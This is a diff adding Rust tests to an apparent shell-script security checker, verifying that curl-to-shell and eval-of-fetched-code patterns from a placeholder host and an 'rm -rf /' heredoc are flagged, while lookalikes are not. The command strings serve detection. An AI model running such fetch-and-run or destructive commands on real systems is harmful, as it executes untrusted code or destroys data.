@@ -331,3 +331,31 @@ fn an_option_that_was_not_undone_is_not_hidden() {
     let found = check(Profile::General, "a.sh", "url=https://h.example; curl -k \"$url\"");
     assert_eq!(found, ["1:24 warning net/tls-off"]);
 }
+
+#[test]
+fn what_code_in_a_shell_prints_is_what_it_fetched() {
+    for text in [
+        "eval curl -s https://h.example/i | sh",
+        "eval 'curl -s https://h.example/i' | bash",
+        "sh -c 'curl -s https://h.example/i' | sh",
+        "x=$(bash -c 'curl -s https://h.example/i'); eval \"$x\"",
+    ] {
+        let found = check(Profile::General, "a.sh", text);
+        assert!(found.iter().any(|row| row.contains("danger sh/pipe-to-shell")), "{text}: {found:?}");
+    }
+    for text in [
+        "eval curl -s https://h.example/i | jq .",
+        "sh -c 'echo a' | sh",
+        "trap 'curl https://h.example/i' EXIT\necho a | sh",
+    ] {
+        let found = check(Profile::General, "a.sh", text);
+        assert!(!found.iter().any(|row| row.contains("danger")), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn a_document_under_another_number_is_no_input() {
+    let found = |text: &str| check(Profile::General, "a.sh", text);
+    assert!(found("bash <<A 3<<B\nrm -rf /\nA\nx\nB\n").iter().any(|row| row.contains("sh/destructive")));
+    assert!(found("bash <<A 3<<B\nx\nA\nrm -rf /\nB\n").iter().all(|row| !row.contains("sh/destructive")));
+}
